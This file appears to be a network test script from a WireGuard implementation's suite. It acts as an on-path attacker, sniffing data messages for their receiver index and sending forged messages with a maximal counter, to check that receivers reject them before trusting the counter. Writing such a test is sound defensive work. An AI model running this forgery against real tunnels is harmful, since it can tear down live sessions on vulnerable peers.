#!/usr/bin/python3
"""tests/net/forged_counter.py: an on-path attacker forging data-message counters.

Usage: forged_counter.py TAP_NS TAP_IF PATH_DST TARGET_IP PORT COUNT INTERVAL

Run inside the attacker's namespace (ip netns exec).  The attacker sees the
tunnel's wire: it opens a packet socket on TAP_IF inside TAP_NS (a veth end on
the path between the two peers, the view any router, relay or Wi-Fi neighbour
has), then returns to its own namespace for everything else.  COUNT times,
every INTERVAL seconds, it reads the newest WireGuard data message (type 4)
sent to PATH_DST:PORT, takes its receiver index (cleartext in every data
message) and sends TARGET_IP:PORT, from its own address, a 32-byte forged data
message: type 4, that index, counter 2^64-1, and a random 16-byte "tag" (it
knows no key, so the message cannot authenticate).  A receiver must drop it
after failing to authenticate it and lose nothing else; one that trusts the
counter before authenticating it throws its live session away.

Prints one line per forged message ("forged N index 0x... ") and exits 1 if it
sees no data message for 5 s (nothing to attack: the test is broken).
"""
import ctypes
import os
import select
import socket
import struct
import sys
import time

CLONE_NEWNET = 0x40000000
ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800


def setns(fd):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.setns(fd, CLONE_NEWNET) != 0:
        err = ctypes.get_errno()
        raise OSError(err, f"setns: {os.strerror(err)}")


def open_tap(ns, ifname):
    """A packet socket on ifname in namespace ns; the caller stays in its own."""
    own = os.open("/proc/self/ns/net", os.O_RDONLY)
    other = os.open(f"/var/run/netns/{ns}", os.O_RDONLY)
    try:
        setns(other)
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        s.bind((ifname, 0))
    finally:
        setns(own)
        os.close(own)
        os.close(other)
    s.setblocking(False)
    return s


def data_index(frame, dst, port):
    """The receiver index of a WireGuard data message in an Ethernet frame
    carrying IPv4/UDP to dst:port, or None."""
    if len(frame) < 14 + 20 + 8 + 32 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[0] >> 4 != 4 or ip[9] != socket.IPPROTO_UDP or ip[16:20] != dst:
        return None
    udp = ip[ihl:]
    if len(udp) < 8 + 32 or struct.unpack("!H", udp[2:4])[0] != port:
        return None
    wg = udp[8:]
    if wg[0:4] != b"\x04\x00\x00\x00":
        return None
    return wg[4:8]


def newest_index(tap, dst, port, timeout):
    """Drain what the tap has queued, then wait for one more data message:
    the index returned is live at the moment of the forgery."""
    idx = None
    while True:
        try:
            idx = data_index(tap.recv(65535), dst, port) or idx
        except BlockingIOError:
            break
    deadline = time.monotonic() + timeout
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return idx
        if not select.select([tap], [], [], left)[0]:
            continue
        got = data_index(tap.recv(65535), dst, port)
        if got:
            return got


def main():
    if len(sys.argv) != 8:
        sys.exit(__doc__.split("\n\n")[1])
    tap_ns, tap_if, path_dst, target, port, count, interval = sys.argv[1:]
    port, count, interval = int(port), int(count), float(interval)
    dst = socket.inet_aton(path_dst)
    tap = open_tap(tap_ns, tap_if)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for n in range(1, count + 1):
        idx = newest_index(tap, dst, port, 5.0)
        if idx is None:
            sys.exit(f"no WireGuard data message to {path_dst}:{port} on {tap_if} for 5 s")
        msg = b"\x04\x00\x00\x00" + idx + struct.pack("<Q", 2**64 - 1) + os.urandom(16)
        assert len(msg) == 32
        out.sendto(msg, (target, port))
        print(f"forged {n} index 0x{struct.unpack('<I', idx)[0]:08x}", flush=True)
        time.sleep(interval)


if __name__ == "__main__":
    main()
